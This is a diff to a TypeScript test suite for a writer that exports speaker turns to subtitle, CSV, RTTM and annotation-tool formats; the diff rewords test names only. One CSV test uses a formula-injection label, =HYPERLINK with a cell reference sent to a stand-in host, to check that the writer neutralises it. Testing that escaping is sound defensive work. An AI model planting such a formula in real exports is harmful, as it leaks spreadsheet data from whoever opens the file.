@@ -4,12 +4,12 @@ import { createTurnWriter, listToShow, segmentsOf, writeTurns } from './writer.t
 
 const write = (format: TurnFormat, lines: readonly Line[], list = 'identification', fileId = 'talk') =>
   writeTurns(lines, format, list, fileId);
-/** Labels are free text. */
+/** A turn with a free-text label. */
 const turn = (speaker: string, text?: string): Line => ({ speaker, start: 0, end: 1, text });
 
 describe('listToShow', () => {
   const show = (format: TurnFormat, ...members: string[]) => listToShow(format, (name) => members.includes(name));
-  it('prefers turns without overlap, then names, then what was said where the format has room for it', () => {
+  it('prefers the transcription in formats with text, then exclusive turns, then names', () => {
     expect(show('rttm', 'diarization')).toBe('diarization');
     expect(show('rttm', 'diarization', 'exclusiveDiarization')).toBe('exclusiveDiarization');
     expect(show('rttm', 'diarization', 'identification')).toBe('identification');
@@ -28,7 +28,7 @@ describe('createTurnWriter', () => {
     { speaker: 'SPEAKER_00', match: 'SPEAKER_01' },
     { speaker: 'SPEAKER_01', match: null },
   ];
-  it('gives the turns without overlap the names that the identified ones have already', () => {
+  it('adds the matching names to exclusive turns only', () => {
     const speakersIn = (list: string) =>
       ['SPEAKER_00', 'SPEAKER_01'].map(
         (speaker, index) => createTurnWriter('txt', list, 'talk', matches).line(turn(speaker), index).split(/\s+/)[2],
@@ -60,7 +60,7 @@ describe('labels of free text', () => {
     expect(write('rttm', [turn('Dr. Al Smith')])).toContain(' Dr._Al_Smith ');
   });
 
-  it('open no quotation in RTTM: pandas, and so pyannote.database, read the rows up to the next one as a single column', () => {
+  it('start with no quotation mark in RTTM', () => {
     const rows = write('rttm', [turn('"Doc" Holliday'), turn('"Bob'), turn("O'Hara")], 'identification', '"a" b').split(
       '\n',
     );
@@ -68,25 +68,25 @@ describe('labels of free text', () => {
     expect(rows[0]).toContain("SPEAKER 'a'_b 1 ");
   });
 
-  it('never end a cue or fake a line of times in SubRip', () => {
+  it('cannot end a cue or form a line of times in SubRip', () => {
     const text = write('srt', [turn('a\n\n2\n00:00:01,000 --> 00:00:02,000\nb', 'x --> y\n\nz ---> w')]);
     expect(text).toBe('1\n00:00:00,000 --> 00:00:01,000\n[a 2 00:00:01,000 -> 00:00:02,000 b] x -> y z -> w\n');
   });
 
-  it('of two hundred thousand dashes in SubRip take no longer than other text', () => {
+  it('with 200,000 dashes are written to SubRip within two seconds', () => {
     const dashes = '-'.repeat(200_000);
     const started = performance.now();
     expect(write('srt', [turn('a', dashes)])).toContain(dashes);
     expect(performance.now() - started).toBeLessThan(2000);
   });
 
-  it('are escaped in WebVTT, line breaks and arrows too', () => {
+  it('are escaped in WebVTT, including line breaks and arrows', () => {
     expect(write('vtt', [turn('a\n\n<b>&', 'x --> y')])).toBe(
       'WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n<v a &lt;b&gt;&amp;>x --&gt; y</v>\n',
     );
   });
 
-  it('that end in dashes make no arrow with the end of a voice span in WebVTT: their cues were lost', () => {
+  it('that end in dashes form no arrow with a WebVTT voice tag', () => {
     for (const label of ['a--', '--', 'a -->', '<--']) {
       const [, , times, cue] = write('vtt', [turn(label, '--> b --')]).split('\n');
       expect([label, times?.split('-->').length, cue?.includes('-->')]).toEqual([label, 2, false]);
@@ -94,7 +94,7 @@ describe('labels of free text', () => {
     expect(write('vtt', [turn('a--')])).toContain('\n<v a-- >a--</v>\n');
   });
 
-  it('of white space alone leave no voice span without a name, and no column out', () => {
+  it('of white space alone are written as an underscore', () => {
     expect(write('vtt', [turn(' \n')])).toContain('\n<v _>_</v>\n');
     expect(write('vtt', [turn(' ', 'b')])).toContain('\n<v _>b</v>\n');
     expect(write('srt', [turn('\t')])).toContain('\n[_]\n');
@@ -102,7 +102,7 @@ describe('labels of free text', () => {
     expect(write('rttm', [turn(' ')])).toContain(' _ ');
   });
 
-  it('are no formulas to a spreadsheet that opens the CSV', () => {
+  it('that look like formulas get an apostrophe in CSV', () => {
     expect(write('csv', [turn('=HYPERLINK("http://e/?"&A1)')])).toContain(`,"'=HYPERLINK(""http://e/?""&A1)"\n`);
     for (const label of ['=1+1', '+1', '-1', '@SUM(1)', '\tx'])
       expect(write('csv', [turn(label)])).toContain(`,'${label}\n`);
@@ -113,16 +113,16 @@ describe('labels of free text', () => {
     for (const label of ['a=1', ' a', 'a\u0000']) expect(write('csv', [turn(label)])).toContain(`,${label}\n`);
   });
 
-  it('are quoted in CSV and come back whole', () => {
+  it('with commas, quotes or line breaks are quoted in CSV', () => {
     expect(write('csv', [turn('a,b\n"c"')])).toBe('start,end,speaker\n0.000,1.000,"a,b\n""c"""\n');
   });
 
-  it('take one line of text, in columns of two spaces', () => {
+  it('are written on one line in TXT, in columns separated by two spaces', () => {
     expect(write('txt', [turn('a  b\nc', 'x\ny')])).toBe('0.000  1.000  a b c  x y\n');
   });
 });
 
-it('names the channel in RTTM, from 1', () => {
+it('writes the channel in RTTM, from 1', () => {
   expect(write('rttm', [{ ...turn('A'), channel: 1 }])).toBe('SPEAKER talk 2 0.000 1.000 <NA> <NA> A <NA> <NA>\n');
 });
 
@@ -135,12 +135,12 @@ describe('formats of annotation tools', () => {
   const inSeconds = (format: TurnFormat, seconds?: number) =>
     writeTurns(lines, format, 'diarization', 'a', [], seconds);
 
-  it('write Audacity labels with the speaker in front of the text', () => {
+  it('write Audacity labels with the speaker before the text', () => {
     expect(write('audacity', lines.slice(1, 2))).toBe('1.000\t3.000\tSPEAKER_01: Oh.\n');
     expect(write('audacity', [turn('a\tb')])).toBe('0.000\t1.000\ta b\n');
   });
 
-  it('fill the tiers of a TextGrid with silence to the end of the recording, without overlap within a tier', () => {
+  it('fill TextGrid tiers with silence to the end of the recording, without overlap', () => {
     const intervalsOf = (text: string) =>
       [...text.matchAll(/intervals \[\d+\]:\s+xmin = (\S+)\s+xmax = (\S+)\s+text = (.*)/g)].map((found) =>
         found.slice(1),
@@ -162,7 +162,7 @@ describe('formats of annotation tools', () => {
     expect(write('textgrid', [])).toContain('tiers? <absent>\n');
   });
 
-  it('write one ELAN tier per speaker, with names and texts escaped', () => {
+  it('write one ELAN tier per speaker, with escaped names and texts', () => {
     const text = inSeconds('eaf');
     expect(text).toContain('TIER_ID="Zoë &quot;Z&quot;"');
     expect(text).toContain('<ANNOTATION_VALUE>Well, &lt;yes&gt; &amp; &quot;no&quot;</ANNOTATION_VALUE>');
@@ -171,7 +171,7 @@ describe('formats of annotation tools', () => {
     expect(text).toContain('ANNOTATION_ID="a3" TIME_SLOT_REF1="ts5" TIME_SLOT_REF2="ts6"');
   });
 
-  it('write an Annotation of pyannote with one track per turn', () => {
+  it('write a pyannote Annotation with one track per turn', () => {
     expect(JSON.parse(write('pyannote', lines, 'diarization', 'my talk'))).toEqual({
       pyannote: 'Annotation',
       uri: 'my_talk',
@@ -196,7 +196,7 @@ describe('formats of annotation tools', () => {
   });
 });
 
-it('writes the head alone where there are no turns', () => {
+it('writes only the head without turns', () => {
   expect(write('rttm', [])).toBe('');
   expect(write('srt', [])).toBe('');
   expect(write('vtt', [])).toBe('WEBVTT\n');
@@ -226,7 +226,7 @@ describe('fileIdOf', () => {
   });
 });
 
-/** One word every half a second; ` ` between words of a turn, `|` between turns. */
+/** @param script words of half a second, separated by ` `, and turns, separated by `|` */
 async function segments(script: string, { space = ' ', pauseBefore = '' } = {}): Promise<string[]> {
   let at = 0;
   const turns = script.split('|').map((text, speaker) => {
@@ -248,7 +248,7 @@ async function segments(script: string, { space = ' ', pauseBefore = '' } = {}):
   return found;
 }
 
-it('cuts turns after sentences and at pauses', async () => {
+it('segmentsOf splits turns after sentences and at pauses', async () => {
   expect(await segments('Hello there. How are "you?" Well|I am fine', { pauseBefore: 'am' })).toEqual([
     'S0 0-0.9 Hello there.',
     'S0 1-2.4 How are "you?"',
@@ -258,14 +258,14 @@ it('cuts turns after sentences and at pauses', async () => {
   ]);
 });
 
-it('cuts before a segment has more than two lines or ten seconds', async () => {
+it('segmentsOf limits a segment to two lines and ten seconds', async () => {
   const long = await segments(Array(30).fill('word').join(' '));
   expect(long.length).toBe(2);
   const wide = await segments(Array(8).fill('abcdefghijklmnopqrstuvwxyz').join(' '));
   expect(wide.length).toBe(3);
 });
 
-it('writes no white space where the turn has none', async () => {
+it('segmentsOf writes no white space if the turn has none', async () => {
   expect(await segments('你 好 吗？ 好|是 的', { space: '' })).toEqual([
     'S0 0-1.4 你好吗？',
     'S0 1.5-1.9 好',
